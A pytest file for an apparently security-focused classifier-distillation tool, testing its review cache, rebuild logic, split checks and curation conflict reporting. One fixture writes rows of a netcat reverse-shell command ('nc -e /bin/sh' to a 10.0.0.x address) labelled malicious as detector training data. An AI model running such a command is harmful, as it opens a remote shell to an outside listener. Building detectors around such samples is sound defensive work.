"""The review cache of a run: every split's items, what each model says, ranked; rebuilt only when stale."""

from __future__ import annotations

import csv
import json

import pytest

from distilsec.config import validate_config
from distilsec.errors import ConfigError, DataError
from distilsec.pipeline.review import build_review_cache, check_run_folder, dropped_conflicts
from distilsec.tasks.prepare import prepare_data
from tests.review_run import LONG_TEXT, SCRIPT_TEXT, tiny_config, tiny_run_copy


def test_the_cache_holds_every_split_with_both_models_and_a_ranked_queue(tmp_path):
    run = tiny_run_copy(tmp_path)
    cache = build_review_cache(run)
    counts = cache.meta["counts"]
    for split in ("train", "val", "test"):
        assert counts[split] == len((run / "splits" / f"{split}.txt").read_text().split())
    assert set(cache.meta["models"]) == {"teacher", "student"}
    assert cache.meta["models"]["student"]["version"].startswith("student:hashed_linear.v1@")
    values = [cache.items[i].value for i in cache.queue]
    assert values == sorted(values, reverse=True) and cache.items[cache.queue[0]].rank == 0
    texts = {it.text for it in cache.items.values()}
    assert SCRIPT_TEXT in texts and LONG_TEXT in texts  # kept whole: the page decides what to show
    train_item = next(it for it in cache.items.values() if it.split == "train")
    assert train_item.neighbours and all(n["id"] != train_item.id for n in train_item.neighbours)


def test_the_cache_is_reused_while_current_and_rebuilt_when_a_bundle_changes(tmp_path):
    run = tiny_run_copy(tmp_path)
    built = build_review_cache(run).meta["built_at"]
    queue_file = run / "review" / "queue.json"
    before = queue_file.stat().st_mtime_ns
    assert build_review_cache(run).meta["built_at"] == built and queue_file.stat().st_mtime_ns == before
    manifest = run / "student" / "manifest.json"
    data = json.loads(manifest.read_text())
    data["threshold"] = 0.99
    manifest.write_text(json.dumps(data))
    assert build_review_cache(run).meta["models"]["student"]["threshold"] == 0.99


def test_splits_that_no_longer_match_the_data_are_refused(tmp_path):
    run = tiny_run_copy(tmp_path)
    train = run / "splits" / "train.txt"
    train.write_text("\n".join(train.read_text().split()[1:]) + "\n")
    with pytest.raises(DataError, match="not what .* was trained on"):
        build_review_cache(run)


def test_a_folder_that_is_not_a_run_is_named(tmp_path):
    with pytest.raises(ConfigError, match="is not a distilsec run folder .*config.yaml"):
        check_run_folder(tmp_path)
    with pytest.raises(ConfigError, match="is not a folder"):
        check_run_folder(tmp_path / "missing")


def test_label_conflicts_curation_dropped_are_listed_with_their_sources(tmp_path):
    table = tmp_path / "t.csv"
    with open(table, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["event", "verdict", "host"])
        for i in range(30):
            w.writerow([f"git status {i}", "benign", f"h{i}"])
            w.writerow([f"nc -e /bin/sh 10.0.0.{i} 4444", "malicious", f"m{i}"])
        w.writerow(["hostname", "benign", "x"])
        w.writerow(["hostname", "malicious", "y"])
    config = validate_config(tiny_config(table, curation={"near_dup_threshold": 0.99, "shortcut_audit": False}))
    data = prepare_data(config)
    dropped, notes = dropped_conflicts(config, data)
    assert [ex.text for ex in dropped] == ["hostname"] and dropped[0].label is None
    assert notes[dropped[0].id] == {"benign": ["t"], "malicious": ["t"]}
